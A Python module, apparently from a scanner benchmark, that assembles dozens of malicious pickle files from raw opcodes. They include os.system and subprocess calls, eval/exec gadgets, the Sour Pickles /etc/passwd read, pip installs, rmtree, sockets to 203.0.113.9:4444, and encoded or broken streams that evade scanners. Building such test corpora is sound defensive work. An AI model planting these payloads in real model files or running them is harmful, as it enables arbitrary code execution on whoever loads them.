"""Malicious pickle streams, assembled from opcodes (never from live objects)."""

from __future__ import annotations

import base64
import zlib
from dataclasses import dataclass

from .pickle_asm import Build, Call, Encoder, Global, dumps, text

CMD = "id > /tmp/aiwarden-bench-pwned"
PY_PAYLOAD = "__import__('os').system('id')"

PICKLE_DOCS = "https://docs.python.org/3/library/pickle.html#restricting-globals"
SOUR = "https://media.blackhat.com/bh-us-11/Slaviero/BH_US_11_Slaviero_Sour_Pickles_Slides.pdf"
PS_ADV = "https://github.com/mmaitre314/picklescan/security/advisories/"
PS_TESTS = "https://github.com/mmaitre314/picklescan/blob/main/tests/init_data_files.py"
NULLIFAI = (
    "https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face"
)
JFROG_PS = "https://jfrog.com/blog/unveiling-3-zero-day-vulnerabilities-in-picklescan/"
MODELSCAN_338 = "https://github.com/protectai/modelscan/issues/338"
MODELSCAN_330 = "https://github.com/protectai/modelscan/issues/330"


@dataclass(frozen=True)
class PickleSample:
    name: str
    data: bytes
    technique: str
    reference: str = PICKLE_DOCS
    note: str = ""


def os_system(protocol: int = 4, module: str = "os") -> bytes:
    """The canonical payload: ``os.system(CMD)``."""
    return dumps(Call(Global(module, "system"), (CMD,)), protocol)


def _call(module: str, name: str, *args: object) -> Call:
    return Call(Global(module, name), args)


def _attr_call(module: str, cls: str, method: str, *args: object) -> Call:
    """``getattr(module.cls, method)(*args)`` -- how unbound methods pickle."""
    return Call(Call(Global("builtins", "getattr"), (Global(module, cls), method)), args)


def by_protocol() -> list[PickleSample]:
    out = []
    for proto in range(6):
        out.append(PickleSample(f"os_system_p{proto}.pkl", os_system(proto), "os.system"))
        out.append(
            PickleSample(
                f"subprocess_popen_p{proto}.pkl",
                dumps(_call("subprocess", "Popen", ["/bin/sh", "-c", CMD]), proto),
                "subprocess",
            )
        )
    out.append(PickleSample("eval_p2.pkl", dumps(_call("builtins", "eval", PY_PAYLOAD), 2), "eval"))
    out.append(PickleSample("exec_p4.pkl", dumps(_call("builtins", "exec", PY_PAYLOAD), 4), "exec"))
    out.append(
        PickleSample("posix_system_p2.pkl", os_system(2, "posix"), "os.system", note="posix alias")
    )
    out.append(PickleSample("nt_system_p3.pkl", os_system(3, "nt"), "os.system", note="nt alias"))
    out.append(
        PickleSample(
            "subprocess_check_output_p5.pkl",
            dumps(_call("subprocess", "check_output", CMD), 5),
            "subprocess",
        )
    )
    return out


def import_chains() -> list[PickleSample]:
    imp = Call(Global("builtins", "__import__"), ("os",))
    system = Call(Global("builtins", "getattr"), (imp, "system"))
    importlib = Call(Global("importlib", "import_module"), ("subprocess",))
    getoutput = Call(Global("builtins", "getattr"), (importlib, "getoutput"))
    return [
        PickleSample(
            "import_getattr_chain.pkl",
            dumps(Call(system, (CMD,)), 4),
            "__import__+getattr",
        ),
        PickleSample(
            "importlib_getattr_chain.pkl",
            dumps(Call(getoutput, (CMD,)), 2),
            "__import__+getattr",
            note="importlib.import_module + getattr",
        ),
        PickleSample("sour_pickles.pkl", _sour_pickles(), "__import__+getattr", SOUR),
    ]


def _sour_pickles() -> bytes:
    return (
        b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n"
        b"(S'fl=open(\"/etc/passwd\");picklesmashed=fl.read();'\nS''\nS'exec'\ntRp101\n0"
        b"c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n"
        b"(c__builtin__\ndict\nS'get'\ntRp103\n0c__builtin__\napply\n"
        b"(g103\n(g100\nS'picklesmashed'\nltRp104\n0g104\n."
    )


def opcode_tricks() -> list[PickleSample]:
    enc = Encoder(4)
    memo_decoy = (
        b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0"
        b"g2\ng3\n\x93(V" + CMD.encode() + b"\ntR."
    )
    string_stack_global = b"S'os'\nS'system'\n\x93S'" + CMD.encode() + b"'\n\x85R."
    memoize_chain = (
        b"\x80\x04"
        + text("os")
        + b"\x940"
        + text("system")
        + b"\x940"
        + b"h\x00h\x01\x93\x94"
        + text(CMD)
        + b"\x85R."
    )
    inst = b"(S'" + CMD.encode() + b"'\nios\nsystem\n."
    obj = b"\x80\x02(cos\nsystem\nX" + len(CMD).to_bytes(4, "little") + CMD.encode() + b"o."
    newobj = b"\x80\x02csubprocess\nPopen\n" + Encoder(2).encode((["/bin/sh", "-c", CMD],))
    newobj += b"\x81."
    newobj_ex = (
        b"\x80\x04"
        + enc.global_("subprocess", "Popen")
        + enc.encode((["/bin/sh", "-c", CMD],))
        + enc.encode({"shell": False})
        + b"\x92."
    )
    return [
        PickleSample(
            "stack_global_memo_decoy.pkl",
            memo_decoy,
            "STACK_GLOBAL memo",
            "https://github.com/mmaitre314/picklescan/issues/22",
            "memoised decoy torch.LongStorage, real target os.system",
        ),
        PickleSample(
            "stack_global_memoize.pkl", memoize_chain, "STACK_GLOBAL memo", note="MEMOIZE + BINGET"
        ),
        PickleSample(
            "stack_global_string_opcodes.pkl",
            string_stack_global,
            "STACK_GLOBAL memo",
            PS_ADV + "GHSA-9gvj-pp9x-gcfr",
            "STACK_GLOBAL fed by protocol-0 STRING opcodes",
        ),
        PickleSample("inst_opcode.pkl", inst, "INST/OBJ/NEWOBJ", PS_TESTS),
        PickleSample("obj_opcode.pkl", obj, "INST/OBJ/NEWOBJ"),
        PickleSample(
            "newobj_opcode.pkl", newobj, "INST/OBJ/NEWOBJ", note="NEWOBJ subprocess.Popen"
        ),
        PickleSample(
            "newobj_ex_opcode.pkl", newobj_ex, "INST/OBJ/NEWOBJ", note="NEWOBJ_EX subprocess.Popen"
        ),
    ]


def gadgets() -> list[PickleSample]:
    getter = Call(Global("operator", "attrgetter"), ("system",))
    module = Call(Global("builtins", "__import__"), ("os",))
    attrgetter = Call(Call(getter, (module,)), (CMD,))
    op_getter = Call(Global("_operator", "attrgetter"), ("system",))
    op_attr = Call(Call(op_getter, (module,)), (CMD,))
    methodcaller = Call(Call(Global("operator", "methodcaller"), ("system", CMD)), (module,))
    partial = Call(Call(Global("functools", "partial"), (Global("os", "system"), CMD)), ())
    partial_eval = Call(
        Call(Global("_functools", "partial"), (Global("builtins", "eval"),)), (PY_PAYLOAD,)
    )
    return [
        PickleSample(
            "operator_attrgetter.pkl",
            dumps(attrgetter, 4),
            "operator gadget",
            PS_TESTS,
            "attrgetter('system')(__import__('os'))(cmd)",
        ),
        PickleSample(
            "_operator_attrgetter.pkl",
            dumps(op_attr, 4),
            "operator gadget",
            "https://github.com/mmaitre314/picklescan/pull/54",
            "GHSA-955r-x9j8-7rhh / GHSA-46h3-79wf-xr6c: the C module _operator",
        ),
        PickleSample("operator_methodcaller.pkl", dumps(methodcaller, 3), "operator gadget"),
        PickleSample("functools_partial.pkl", dumps(partial, 4), "functools.partial"),
        PickleSample("_functools_partial_eval.pkl", dumps(partial_eval, 2), "functools.partial"),
    ]


def _stdlib_exec_gadgets() -> list[tuple[str, Call, str, str]]:
    rows: list[tuple[str, Call, str, str]] = [
        ("runpy_run_code", _call("runpy", "_run_code", PY_PAYLOAD, {}), "runpy", PS_TESTS),
        ("runpy_run_path", _call("runpy", "run_path", "/tmp/x.py"), "runpy", PICKLE_DOCS),
        ("pydoc_pipepager", _call("pydoc", "pipepager", "", CMD), "pydoc", PS_TESTS),
        (
            "pip_main",
            _call("pip", "main", ["install", "evil-pkg", "-q"]),
            "pip.main",
            "https://nvd.nist.gov/vuln/detail/CVE-2025-1716",
        ),
        (
            "ensurepip_run_pip",
            _call("ensurepip", "_run_pip", ["install", "evil"]),
            "pip.main",
            PS_ADV + "GHSA-xp4f-hrf8-rxw7",
        ),
        ("ctypes_cdll", _call("ctypes", "CDLL", "/tmp/evil.so"), "ctypes", PICKLE_DOCS),
        (
            "asyncio_unix_subprocess",
            _attr_call(
                "asyncio.unix_events",
                "_UnixSubprocessTransport",
                "_start",
                {},
                CMD,
                True,
                None,
                None,
                None,
                0,
            ),
            "asyncio",
            PS_ADV + "GHSA-q77w-mwjj-7mqx",
        ),
        (
            "asyncio_create_subprocess_shell",
            _call("asyncio.subprocess", "create_subprocess_shell", CMD),
            "asyncio",
            PICKLE_DOCS,
        ),
        (
            "timeit",
            _call("timeit", "timeit", "", PY_PAYLOAD),
            "profilers/debuggers",
            PS_ADV + "GHSA-v7x6-rv5q-mhwc",
        ),
        (
            "cprofile_run",
            _call("cProfile", "run", PY_PAYLOAD),
            "profilers/debuggers",
            PS_ADV + "GHSA-49gj-c84q-6qm9",
        ),
        (
            "cprofile_runctx",
            _call("cProfile", "runctx", PY_PAYLOAD, None, None),
            "profilers/debuggers",
            PS_ADV + "GHSA-9w88-8rmg-7g2p",
        ),
        (
            "profile_run",
            _attr_call("profile", "Profile", "run", {}, PY_PAYLOAD),
            "profilers/debuggers",
            PS_ADV + "GHSA-x696-vm39-cp64",
        ),
        (
            "trace_run",
            _attr_call("trace", "Trace", "run", {}, PY_PAYLOAD),
            "profilers/debuggers",
            PS_ADV + "GHSA-5qwp-399c-mjwf",
        ),
        (
            "bdb_run",
            _attr_call("bdb", "Bdb", "run", {}, PY_PAYLOAD),
            "profilers/debuggers",
            PS_TESTS,
        ),
        (
            "doctest_debug_script",
            _call("doctest", "debug_script", PY_PAYLOAD, True),
            "profilers/debuggers",
            PS_ADV + "GHSA-fqq6-7vqf-w3fg",
        ),
        (
            "code_interactive_runcode",
            _attr_call("code", "InteractiveInterpreter", "runcode", {}, PY_PAYLOAD),
            "code/codeop",
            PS_ADV + "GHSA-cj3c-v495-4xqh",
        ),
        (
            "idlelib_calltip_get_entity",
            _call("idlelib.calltip", "get_entity", PY_PAYLOAD),
            "idlelib",
            PS_ADV + "GHSA-9xph-j2h6-g47v",
        ),
        (
            "idlelib_autocomplete",
            _attr_call("idlelib.autocomplete", "AutoComplete", "get_entity", {}, PY_PAYLOAD),
            "idlelib",
            PS_ADV + "GHSA-6w4w-5w54-rjvr",
        ),
        (
            "idlelib_run_executive",
            _attr_call("idlelib.run", "Executive", "runcode", {}, PY_PAYLOAD),
            "idlelib",
            PS_ADV + "GHSA-m869-42cg-3xwr",
        ),
        (
            "idlelib_pyshell_runcommand",
            _attr_call("idlelib.pyshell", "ModifiedInterpreter", "runcommand", {}, PY_PAYLOAD),
            "idlelib",
            PS_ADV + "GHSA-j343-8v2j-ff7w",
        ),
        (
            "lib2to3_grammar_loads",
            _attr_call("lib2to3.pgen2.grammar", "Grammar", "loads", {}, b"\x80\x04N."),
            "lib2to3",
            PS_ADV + "GHSA-f54q-57x4-jg88",
        ),
        (
            "lib2to3_make_label",
            _attr_call(
                "lib2to3.pgen2.pgen", "ParserGenerator", "make_label", None, {}, '""+' + PY_PAYLOAD
            ),
            "lib2to3",
            PS_ADV + "GHSA-p9w7-82w4-7q8m",
        ),
        (
            "venv_create",
            _call("venv", "create", "v", False, False, True, False, "$(id)"),
            "stdlib command runners",
            PS_TESTS,
        ),
        (
            "distutils_write_file",
            _call("distutils.file_util", "write_file", "/tmp/.env", ["x"]),
            "stdlib command runners",
            PS_ADV + "GHSA-m273-6v24-x4m4",
        ),
        (
            "uuid_get_command_stdout",
            _call("uuid", "_get_command_stdout", "sh", "-c", CMD),
            "stdlib command runners",
            PS_ADV + "GHSA-g38g-8gr9-h9xp",
        ),
        (
            "imaplib_imap4_stream",
            _call("imaplib", "IMAP4_stream", CMD),
            "stdlib command runners",
            PS_ADV + "GHSA-g38g-8gr9-h9xp",
        ),
        (
            "pyrepl_pipe_pager",
            _call("_pyrepl.pager", "pipe_pager", "", CMD),
            "stdlib command runners",
            PS_ADV + "GHSA-g38g-8gr9-h9xp",
        ),
        (
            "osx_support_read_output",
            _call("_osx_support", "_read_output", CMD),
            "stdlib command runners",
            PS_ADV + "GHSA-g38g-8gr9-h9xp",
        ),
        (
            "aix_support_read_cmd_output",
            _call("_aix_support", "_read_cmd_output", CMD),
            "stdlib command runners",
            PS_ADV + "GHSA-g38g-8gr9-h9xp",
        ),
        (
            "multiprocessing_spawnv_passfds",
            _call("multiprocessing.util", "spawnv_passfds", b"/bin/sh", ("/bin/sh", "-c", CMD), ()),
            "stdlib command runners",
            MODELSCAN_338,
        ),
        (
            "logging_filehandler",
            _call("logging", "FileHandler", "/tmp/created-by-pickle"),
            "file system access",
            "https://nvd.nist.gov/vuln/detail/CVE-2026-56304",
        ),
        (
            "builtins_open_write",
            _call("builtins", "open", "/tmp/x", "w"),
            "file system access",
            PICKLE_DOCS,
        ),
        (
            "shutil_rmtree",
            _call("shutil", "rmtree", "/tmp/victim"),
            "file system access",
            PICKLE_DOCS,
        ),
        (
            "socket_connection",
            _call("socket", "create_connection", ("203.0.113.9", 4444)),
            "network",
            PS_TESTS,
        ),
        (
            "urllib_urlopen",
            _call("urllib.request", "urlopen", "http://203.0.113.9/x"),
            "network",
            PICKLE_DOCS,
        ),
        (
            "webbrowser_open",
            _call("webbrowser", "open", "http://203.0.113.9/"),
            "network",
            PICKLE_DOCS,
        ),
        (
            "numpy_testing_runstring",
            _call("numpy.testing._private.utils", "runstring", PY_PAYLOAD, {}),
            "numpy gadgets",
            PS_TESTS,
        ),
    ]
    return rows


def _torch_gadgets() -> list[tuple[str, Call, str, str]]:
    return [
        (
            "torch_bottleneck_run_cprofile",
            _call("torch.utils.bottleneck.__main__", "run_cprofile", PY_PAYLOAD, {}),
            "torch gadgets",
            PS_ADV + "GHSA-4r9r-ch6f-vxmx",
        ),
        (
            "torch_bottleneck_autograd_prof",
            _call("torch.utils.bottleneck.__main__", "run_autograd_prof", PY_PAYLOAD, {}),
            "torch gadgets",
            PS_ADV + "GHSA-4whj-rm5r-c2v8",
        ),
        (
            "torch_collect_env_run",
            _call("torch.utils.collect_env", "run", CMD),
            "torch gadgets",
            PS_ADV + "GHSA-f745-w6jp-hpxx",
        ),
        (
            "torch_jit_execwrapper",
            _call("torch.jit.unsupported_tensor_ops", "execWrapper", PY_PAYLOAD, {}, {}),
            "torch gadgets",
            PS_ADV + "GHSA-vr7h-p6mm-wpmh",
        ),
        (
            "torch_inductor_compile_file",
            _call("torch._inductor.codecache", "compile_file", "", "", ["sh", "-c", CMD]),
            "torch gadgets",
            PS_TESTS,
        ),
        (
            "torch_load_partial",
            Call(Call(Global("functools", "partial"), (Global("torch", "load"), "other.bin")), ()),
            "torch gadgets",
            PS_TESTS,
        ),
        (
            "torch_hub_load",
            _call("torch.hub", "load", "attacker/repo", "model"),
            "torch gadgets",
            "https://pytorch.org/docs/stable/hub.html",
        ),
    ]


def stdlib_gadgets() -> list[PickleSample]:
    rows = _stdlib_exec_gadgets() + _torch_gadgets()
    return [
        PickleSample(f"{name}.pkl", dumps(call, 4), technique, ref)
        for name, call, technique, ref in rows
    ]


def nested() -> list[PickleSample]:
    inner = os_system(2)
    b64 = base64.b64encode(inner).decode()
    zipped = zlib.compress(inner)
    via_b64 = _call("pickle", "loads", _call("base64", "b64decode", b64))
    via_zlib = _call("_pickle", "loads", _call("zlib", "decompress", zipped))
    via_bytesio = _call("pickle", "load", _call("io", "BytesIO", inner))
    return [
        PickleSample(
            "nested_pickle_loads.pkl",
            dumps(_call("pickle", "loads", inner), 3),
            "nested pickle",
            PS_TESTS,
        ),
        PickleSample(
            "nested_base64.pkl",
            dumps(via_b64, 4),
            "nested pickle",
            note="pickle.loads(base64.b64decode(...))",
        ),
        PickleSample(
            "nested_zlib.pkl",
            dumps(via_zlib, 4),
            "nested pickle",
            note="_pickle.loads(zlib.decompress(...))",
        ),
        PickleSample(
            "nested_bytesio.pkl",
            dumps(via_bytesio, 5),
            "nested pickle",
            note="pickle.load(io.BytesIO(...))",
        ),
    ]


def broken_and_concatenated() -> list[PickleSample]:
    exec_then_garbage = dumps(_call("builtins", "exec", PY_PAYLOAD), 2, frame=False)[:-1]
    keyerror = (
        b"\x80\x04cos\nsystem\n" + text(CMD) + b"\x85R0" + text("os") + b"\x94h\x03h\x00\x93K\x42."
    )
    benign = dumps({"weights": [0.1, 0.2], "epoch": 3}, 4)
    return [
        PickleSample(
            "nullifai_broken.pkl",
            exec_then_garbage + b"X\x00\x00\x10",
            "broken pickle",
            NULLIFAI,
            "exec, then a truncated opcode and no STOP",
        ),
        PickleSample(
            "malicious_then_invalid_opcode.pkl",
            os_system(4)[:-1] + b"\xff\xfe",
            "broken pickle",
            NULLIFAI,
            "invalid opcode after the REDUCE",
        ),
        PickleSample(
            "keyerror_memo.pkl",
            keyerror,
            "broken pickle",
            PS_TESTS,
            "os.system, then STACK_GLOBAL on a missing memo key",
        ),
        PickleSample(
            "concatenated_benign_then_evil.pkl",
            benign + os_system(4),
            "concatenated pickles",
            PS_TESTS,
        ),
        PickleSample(
            "concatenated_three.pkl", benign + benign + os_system(2), "concatenated pickles"
        ),
    ]


def fix_imports_names() -> list[PickleSample]:
    return [
        PickleSample(
            "py2_builtin_eval.pkl",
            dumps(_call("__builtin__", "eval", PY_PAYLOAD), 0),
            "fix_imports names",
            PS_TESTS,
            "__builtin__ is builtins",
        ),
        PickleSample(
            "py2_commands_getoutput.pkl",
            dumps(_call("commands", "getoutput", CMD), 1),
            "fix_imports names",
            note="commands.getoutput is subprocess.getoutput",
        ),
        PickleSample(
            "py2_builtin_apply.pkl",
            dumps(_call("__builtin__", "apply", Global("os", "system"), (CMD,)), 0),
            "fix_imports names",
        ),
    ]


def code_objects() -> list[PickleSample]:
    code = _call("marshal", "loads", b"\xe3" + b"\x00" * 40)
    fn = Call(_call("types", "FunctionType", code, {}), ())
    cloud = Call(_call("cloudpickle.cloudpickle", "_make_function", code, {}, "f", None, None), ())
    dill = Call(_call("dill._dill", "_create_function", code, {}, "f", None, None), ())
    builtins_trick = Build(
        Global("numpy", "size"), ({}, {"shape": Global("numpy", "__builtins__")})
    )
    np_eval = Call(
        Call(Global("builtins", "getattr"), (Global("numpy", "__builtins__"), "get")), ("eval",)
    )
    return [
        PickleSample("marshal_function_type.pkl", dumps(fn, 4), "code objects", PICKLE_DOCS),
        PickleSample(
            "cloudpickle_make_function.pkl",
            dumps(cloud, 4),
            "code objects",
            "https://github.com/mmaitre314/picklescan/blob/main/tests/data2/"
            "cloudpickle_codeinjection.pkl",
        ),
        PickleSample(
            "dill_create_function.pkl",
            dumps(dill, 4),
            "code objects",
            "https://github.com/protectai/modelscan/issues/28",
        ),
        PickleSample(
            "numpy_builtins_eval.pkl",
            dumps([builtins_trick, Call(np_eval, (PY_PAYLOAD,))], 4),
            "allowlisted-module attribute",
            MODELSCAN_330,
            "numpy.__builtins__ reached through an allowlisted module",
        ),
    ]


def all_pickles() -> list[PickleSample]:
    return (
        by_protocol()
        + import_chains()
        + opcode_tricks()
        + gadgets()
        + stdlib_gadgets()
        + nested()
        + broken_and_concatenated()
        + fix_imports_names()
        + code_objects()
    )
